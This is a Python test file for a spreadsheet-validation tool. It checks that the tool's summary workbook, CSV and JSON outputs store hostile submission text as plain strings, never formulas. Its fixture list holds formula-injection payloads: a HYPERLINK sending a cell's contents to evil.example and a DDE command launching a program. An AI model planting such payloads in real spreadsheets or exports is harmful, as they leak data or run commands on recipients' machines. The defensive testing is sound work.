"""The summary workbook, results.json and results.csv: content, and submission text kept as text."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl

from evaltool.batch.assemble import BatchData, build_rows
from evaltool.batch.discover import Unusable
from evaltool.batch.results import neutralise, write_csv, write_json
from evaltool.batch.roster import Roster, Unit
from evaltool.batch.summary import SHEETS, write_summary
from tests.batch.helpers import finding, result

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-3+4", "@SUM(1)"]


def _data(tmp_path: Path) -> BatchData:
    results = [
        result("a.xlsx", "101", annotated="a_校验结果.xlsx", unit_name=HOSTILE[0]),
        result("sub/b.xlsx", HOSTILE[2], finding("B101", message=HOSTILE[1]), finding("I312", "warning", "G5")),
        result("c.xlsx", "103", finding("B101"), finding("B101", cell="D16"), unit_name=HOSTILE[1]),
        result("bad.xlsx", None, status="unreadable", error_reason="corrupt", error_zh=HOSTILE[3], error_en="x"),
    ]
    results[1].findings[0].message_zh = HOSTILE[1]
    results[1].findings[0].sheet = HOSTILE[4]
    roster = Roster({"101": Unit("101", HOSTILE[0]), "103": Unit("103", "丙"), "104": Unit("104", HOSTILE[4])})
    rows = build_rows(results, roster, None)
    return BatchData(
        run_id=1,
        started="2026-01-01T00:00:00+00:00",
        tool_version="0.1.0",
        inbox=str(tmp_path),
        lang="zh",
        rows=rows,
        unusable=[Unusable(HOSTILE[1] + ".pdf", "not_workbook")],
    )


def test_summary_workbook(tmp_path: Path) -> None:
    data = _data(tmp_path)
    path = tmp_path / "汇总.xlsx"
    write_summary(path, data, 1)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == list(SHEETS)
    ws = wb["单位汇总"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:O6"
    for sheet in wb.worksheets:  # every sheet prints A4 landscape, one page wide, its header repeated
        setup = sheet.page_setup
        fit_width = 1 if setup.fitToWidth is None else setup.fitToWidth  # 1 is the default, left out
        assert (setup.orientation, str(setup.paperSize), fit_width, setup.fitToHeight) == (
            "landscape",
            "9",
            1,
            0,
        ), sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.print_title_rows.replace("$", "") == "1:1"
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    assert [(r[0], r[2], r[3]) for r in rows] == [
        ("101", "a.xlsx", "通过"),
        ("103", "c.xlsx", "有错误"),
        ("104", None, "未提交"),
        (None, "bad.xlsx", "无法读取"),  # then files not on the roster, by path
        (HOSTILE[2], "sub/b.xlsx", "有错误"),
    ]
    assert rows[1][4:7] == [2, 0, 0]
    assert rows[0][7] == 1482.05 and rows[0][9] == 98.5
    assert ws["K2"].hyperlink is not None and ws["K2"].hyperlink.target == "a_校验结果.xlsx"
    assert rows[4][11] == "单位编码不在名单中"
    assert rows[3][13] == HOSTILE[3]
    # Conditional formats colour rows by status.
    assert len(ws.conditional_formatting) >= 1
    # Every hostile text is a plain string cell, never a formula.
    texts = {
        c.value
        for sheet in wb.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value[:1] in "=+-@"
    }
    assert set(HOSTILE) <= texts | {HOSTILE[1] + ".pdf"}
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} became a formula: {c.value}"
    # Rule statistics and the unit × rule matrix.
    stats = {r[0]: r[1:] for r in wb["规则统计"].iter_rows(min_row=2, values_only=True)}
    assert stats["B101"][:6] == ("明细合计不符", 3, 3, 0, 0, 2)  # the rule's Chinese name
    assert stats["I312"][1:6] == (1, 0, 1, 0, 1)
    matrix = list(wb["单位×规则"].iter_rows(values_only=True))
    assert matrix[0][4:] == ("B101\n明细合计不符", "I312\n实际值重述目标", "合计")  # code over its Chinese name
    by_file = {r[2]: r[4:] for r in matrix[1:] if r[2]}
    assert by_file["c.xlsx"] == (2, None, 2)
    assert by_file["sub/b.xlsx"] == (1, 1, 2)
    assert matrix[-1][0] == "合计" and matrix[-1][4:] == (3, 1, 4)
    unused = [r[0] for r in wb["未处理文件"].iter_rows(min_row=2, values_only=True)]
    assert unused == ["bad.xlsx", HOSTILE[1] + ".pdf"]


def test_summary_has_a_chart(tmp_path: Path) -> None:
    import zipfile

    path = tmp_path / "汇总.xlsx"
    write_summary(path, _data(tmp_path), 1)
    assert any(n.startswith("xl/charts/chart") for n in zipfile.ZipFile(path).namelist())


def test_csv_neutralises_formula_text(tmp_path: Path) -> None:
    data = _data(tmp_path)
    path = tmp_path / "results.csv"
    write_csv(path, data)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    names = {row["unit_name"] for row in rows}
    assert "'" + HOSTILE[0] in names
    assert "'" + HOSTILE[1] in names
    b101 = [r for r in rows if r["file"] == "sub/b.xlsx" and r["code"] == "B101"]
    assert b101[0]["message"] == "'" + HOSTILE[1]
    assert b101[0]["unit_code"] == "'" + HOSTILE[2]
    statuses = {(r["file"], r["status"]) for r in rows}
    assert ("", "missing") in statuses and ("bad.xlsx", "unreadable") in statuses
    assert ("a.xlsx", "passed") in statuses
    assert ("'" + HOSTILE[1] + ".pdf", "unusable") in statuses
    assert len([r for r in rows if r["file"] == "c.xlsx"]) == 2
    assert neutralise("\tx") == "'\tx" and neutralise("ok") == "ok" and neutralise(None) == ""


def test_json_shape(tmp_path: Path) -> None:
    data = _data(tmp_path)
    path = tmp_path / "results.json"
    write_json(path, data, tmp_path / "out", 1, "0.1.0")
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["tool"] == "evaltool" and doc["version"] == "0.1.0"
    assert [f["relpath"] for f in doc["files"]] == ["a.xlsx", "c.xlsx", "bad.xlsx", "sub/b.xlsx"]
    first = doc["files"][0]
    assert first["unit_name"] == HOSTILE[0]
    assert first["annotated"] == str(tmp_path / "out" / "a_校验结果.xlsx")
    assert doc["files"][1]["findings"][0]["message"] == "问题 B101"
    assert doc["files"][2]["error_reason"] == "corrupt"
    assert doc["missing"] == [{"unit_code": "104", "unit_name": HOSTILE[4], "changes": None}]
    assert doc["unusable"][0]["reason"] == "not_workbook"
    assert doc["run"]["exit_code"] == 1
